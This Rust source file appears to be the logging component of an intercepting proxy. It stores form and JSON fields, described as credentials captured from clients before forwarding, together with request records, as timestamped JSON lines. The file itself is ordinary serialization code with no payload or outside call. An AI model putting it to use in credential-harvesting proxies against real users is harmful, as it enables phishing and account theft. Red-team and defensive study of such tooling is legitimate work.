use std::fs::OpenOptions;
use std::io::Write;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::{SystemTime, UNIX_EPOCH};

use serde::Serialize;

/// Form or JSON fields posted by a client, captured before forwarding.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct CapturedCredentials {
    pub session: Option<String>,
    /// Target-side URL the fields were posted to.
    pub url: String,
    pub fields: Vec<(String, String)>,
}

/// A proxied request as seen by the client.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct RequestRecord {
    pub session: Option<String>,
    pub method: String,
    pub url: String,
    pub status: u16,
}

#[derive(Clone, Debug, Serialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum Record {
    Credentials(CapturedCredentials),
    Request(RequestRecord),
}

#[derive(Serialize)]
struct Line<'a> {
    ts: u64,
    #[serde(flatten)]
    record: &'a Record,
}

/// Append-only JSON-lines sink shared by every request.
#[derive(Clone)]
pub struct LogSink {
    writer: Arc<Mutex<dyn Write + Send>>,
}

impl std::fmt::Debug for LogSink {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("LogSink").finish_non_exhaustive()
    }
}

impl LogSink {
    pub fn new(writer: impl Write + Send + 'static) -> Self {
        Self {
            writer: Arc::new(Mutex::new(writer)),
        }
    }

    /// Open `path` for appending, creating it when missing.
    pub fn open(path: impl AsRef<Path>) -> std::io::Result<Self> {
        let file = OpenOptions::new().create(true).append(true).open(path)?;
        Ok(Self::new(file))
    }

    /// Write one record as a single line. Failures are logged, not returned.
    pub fn write(&self, record: &Record) {
        let ts = SystemTime::now()
            .duration_since(UNIX_EPOCH)
            .map(|d| d.as_millis() as u64)
            .unwrap_or_default();
        let line = match serde_json::to_string(&Line { ts, record }) {
            Ok(line) => line,
            Err(e) => {
                tracing::warn!(error = %e, "failed to serialize log record");
                return;
            }
        };
        let mut w = self.writer.lock().unwrap_or_else(|e| e.into_inner());
        if let Err(e) = writeln!(w, "{line}").and_then(|_| w.flush()) {
            tracing::warn!(error = %e, "failed to write log record");
        }
    }
}
